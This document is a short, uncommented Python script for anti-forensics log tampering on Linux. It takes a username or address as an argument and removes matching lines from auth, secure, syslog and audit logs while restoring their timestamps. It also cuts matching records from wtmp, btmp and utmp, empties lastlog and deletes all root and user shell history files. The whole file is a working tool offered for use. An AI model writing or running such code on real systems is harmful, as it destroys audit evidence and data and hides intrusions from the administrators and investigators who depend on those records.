import glob
import os
import struct
import sys

who = sys.argv[1].encode()
REC = 384


def text(path):
    st = os.stat(path)
    with open(path, "rb") as f:
        keep = [l for l in f if who not in l]
    with open(path, "wb") as f:
        f.writelines(keep)
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))


def records(path):
    data = open(path, "rb").read()
    out = b"".join(data[i:i + REC] for i in range(0, len(data), REC) if who not in data[i:i + REC])
    open(path, "wb").write(out)


for p in glob.glob("/var/log/auth.log*") + glob.glob("/var/log/secure*") + ["/var/log/syslog", "/var/log/audit/audit.log"]:
    if os.path.exists(p) and not p.endswith(".gz"):
        text(p)
for p in ("/var/log/wtmp", "/var/log/btmp", "/var/run/utmp"):
    records(p)
open("/var/log/lastlog", "wb").close()
for h in glob.glob("/root/.*history") + glob.glob("/home/*/.*history"):
    os.remove(h)
